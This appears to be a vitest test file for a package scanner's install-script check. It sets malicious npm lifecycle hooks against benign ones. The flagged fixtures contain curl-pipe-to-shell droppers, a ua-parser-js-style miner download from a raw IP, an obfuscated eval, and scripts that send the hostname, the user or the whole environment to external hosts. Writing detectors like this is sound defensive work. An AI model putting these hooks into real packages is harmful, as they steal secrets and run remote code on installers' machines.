import { describe, expect, it } from 'vitest';
import { installScripts } from '../../src/checks/install-scripts.js';
import { testCheck } from '../helpers/check-tester.js';
import { contextOf } from '../helpers/package-builder.js';

testCheck(installScripts, {
  flagged: [
    {
      label: 'postinstall piping a download into sh',
      manifest: { scripts: { postinstall: 'curl -fsSL https://collect.example/i.sh | sh' } },
      severity: 'critical',
      message: /postinstall script pipes a download into an interpreter/,
    },
    {
      label: 'preinstall running a shipped shell script that downloads and runs a miner (ua-parser-js 2021)',
      manifest: { scripts: { preinstall: 'bash preinstall.sh' } },
      files: {
        'preinstall.sh':
          '#!/bin/bash\nIP=$(curl -k https://freegeoip.app/xml/ | grep RU)\ncurl http://159.148.186.228/download/jsextension -o jsextension\nchmod +x ./jsextension\n./jsextension -k --tls\n',
      },
      severity: 'critical',
      message: /through preinstall\.sh/,
    },
    {
      label: 'the same dropper in a shell script named like a config file (sh scripts/setup.cfg)',
      manifest: { scripts: { postinstall: 'sh scripts/setup.cfg' } },
      files: {
        'scripts/setup.cfg':
          '#!/bin/sh\ncurl -fsSL http://203.0.113.7/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x\n',
      },
      severity: 'critical',
      message: /through scripts\/setup\.cfg/,
    },
    {
      label: 'a hook that only says npm run setup, where setup pipes a download into sh',
      manifest: { scripts: { postinstall: 'npm run setup', setup: 'curl -fsSL http://203.0.113.7/x | sh' } },
      severity: 'critical',
      message: /through the setup script it starts/,
    },
    {
      label: 'the same two scripts away, through yarn',
      manifest: {
        scripts: {
          preinstall: 'yarn prep',
          prep: 'pnpm run fetch-assets --silent',
          'fetch-assets': 'wget -qO- http://203.0.113.7/a | bash',
        },
      },
      severity: 'critical',
      message: /through the prep, fetch-assets scripts it starts/,
    },
    {
      label: 'install running node -e that phones home',
      manifest: {
        scripts: { install: "node -e \"require('http').get('http://1.2.3.4:8080/'+process.env.USER)\"" },
      },
      severity: 'critical',
    },
    {
      label: 'obfuscated postinstall',
      manifest: {
        scripts: {
          postinstall: 'node -e "eval(atob(\'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=\'))"',
        },
      },
      severity: 'critical',
    },
    {
      label: 'a detached background worker',
      manifest: { scripts: { postinstall: 'nohup node lib/agent.js > /dev/null 2>&1 &' } },
      severity: 'medium',
    },
    {
      label: 'a dependency-confusion probe: the script runs a file that sends host name and user',
      manifest: { scripts: { preinstall: 'node index.js' } },
      files: {
        'index.js':
          "const https = require('https');\nconst os = require('os');\nconst info = { h: os.hostname(), u: os.userInfo().username };\nhttps.get('https://oob.example.net/p?d=' + encodeURIComponent(JSON.stringify(info)));\n",
      },
      severity: 'high',
      message: /runs index\.js, which sends who and where the machine is .* to oob\.example\.net/,
    },
    {
      label: 'the same probe started without its extension (node scripts/probe runs scripts/probe.js)',
      manifest: { scripts: { preinstall: 'node scripts/probe' } },
      files: {
        'scripts/probe.js':
          "const https = require('https');\nconst os = require('os');\nhttps.get('https://oob.example.net/p?h=' + os.hostname());\n",
      },
      severity: 'high',
      message: /runs scripts\/probe, which sends who and where the machine is/,
    },
    {
      label: 'install-time recon through a helper module the script loads',
      manifest: { scripts: { postinstall: 'node scripts/setup.js' } },
      files: {
        'scripts/setup.js': "const { report } = require('./report');\nreport(process.env);\n",
        'scripts/report.js':
          "exports.report = (env) => fetch('https://c.example.net/r', { method: 'POST', body: JSON.stringify(env) });\nfetch('https://c.example.net/e', { method: 'POST', body: JSON.stringify(process.env) });\n",
      },
      severity: 'critical',
      message: /the whole environment/,
    },
  ],
  clean: [
    { label: 'a package without scripts', manifest: { main: 'index.js' } },
    {
      label: 'a binary installer that sends platform and architecture to pick a download',
      manifest: { scripts: { postinstall: 'node install.js' } },
      files: {
        'install.js':
          // biome-ignore lint/suspicious/noTemplateCurlyInString: this string is the package's source
          "const os = require('os');\nconst https = require('https');\nconst url = `https://downloads.example-tool.dev/v1/${os.platform()}-${os.arch()}.tar.gz`;\nhttps.get(url, (res) => res.pipe(process.stdout));\n",
      },
    },
    {
      label: 'an install script counting installs without identifying the machine',
      manifest: { scripts: { postinstall: 'node telemetry.js' } },
      files: {
        'telemetry.js':
          "if (!process.env.CI) fetch('https://telemetry.example-tool.dev/install', { method: 'POST', body: JSON.stringify({ v: '1.2.3', node: process.version }) }).catch(() => {});\n",
      },
    },
    {
      label: 'native addon with node-gyp rebuild',
      manifest: { scripts: { install: 'node-gyp rebuild' }, gypfile: true },
      files: { 'binding.gyp': "{ 'targets': [] }" },
    },
    {
      label: 'prebuilt binary with fallback',
      manifest: { scripts: { install: 'prebuild-install || node-gyp rebuild' } },
    },
    {
      label: 'esbuild-style install.js',
      manifest: { scripts: { postinstall: 'node install.js' } },
      files: { 'install.js': '' },
    },
    {
      label: 'a shipped shell script with a config-like name that only sets up a folder',
      manifest: { scripts: { postinstall: 'sh ./scripts/link-hooks.cfg || true' } },
      files: { 'scripts/link-hooks.cfg': '#!/bin/sh\nmkdir -p .git/hooks 2>/dev/null\necho "hooks ready"\n' },
      cleanBelow: 'high',
    },
    {
      label: 'sh -c with inline text is not a file of the package',
      manifest: { scripts: { postinstall: "sh -c 'echo thanks for installing'" } },
      cleanBelow: 'high',
    },
    {
      label: 'a hook running the build script, which compiles TypeScript',
      manifest: { scripts: { postinstall: 'npm run build', build: 'tsc -p tsconfig.build.json' } },
    },
    {
      label: 'scripts that start each other in a loop',
      manifest: { scripts: { postinstall: 'npm run a', a: 'npm run b', b: 'npm run a && echo done' } },
    },
    {
      label: 'core-js-style banner',
      manifest: { scripts: { postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}"' } },
    },
    {
      label: 'scripts that only run at development time',
      manifest: { scripts: { test: 'curl https://x | sh', build: 'tsc' } },
    },
    {
      label: 'a shipped shell script that only builds',
      manifest: { scripts: { install: 'sh build.sh' } },
      files: { 'build.sh': '#!/bin/sh\nnode-gyp rebuild\n' },
      cleanBelow: 'high',
    },
  ],
});

describe('install-scripts details', () => {
  it('points at the line of the script in package.json and quotes it', () => {
    const [finding] = installScripts.runToFindings(
      contextOf({
        manifest: { description: 'x', scripts: { postinstall: 'curl -s https://a.example/x | sh' } },
      }),
    );
    expect(finding?.location).toEqual({ file: 'package.json', line: 6, column: 5 });
    expect(finding?.evidence).toBe('curl -s https://a.example/x | sh');
  });

  it('reports the implicit node-gyp rebuild of a binding.gyp as low', () => {
    const findings = installScripts.runToFindings(contextOf({ files: { 'binding.gyp': '{}' } }));
    expect(findings).toMatchObject([{ severity: 'low', title: 'Implicit native build' }]);
  });

  it('no implicit build when gypfile is false or an install script exists', () => {
    expect(
      installScripts.runToFindings(
        contextOf({ manifest: { gypfile: false }, files: { 'binding.gyp': '{}' } }),
      ),
    ).toEqual([]);
    const withScript = installScripts.runToFindings(
      contextOf({ manifest: { scripts: { install: 'node-gyp rebuild' } }, files: { 'binding.gyp': '{}' } }),
    );
    expect(withScript.map((finding) => finding.title)).toEqual(['install script']);
  });

  it('evidence never carries terminal control characters', () => {
    const [finding] = installScripts.runToFindings(
      contextOf({
        manifest: { scripts: { postinstall: 'echo \u001b[2Jhi\u001b]0;x\u0007 && curl https://a/x | sh' } },
      }),
    );
    // biome-ignore lint/suspicious/noControlCharactersInRegex: asserting their absence
    expect(finding?.evidence).not.toMatch(/[\u0000-\u001f]/);
  });
});
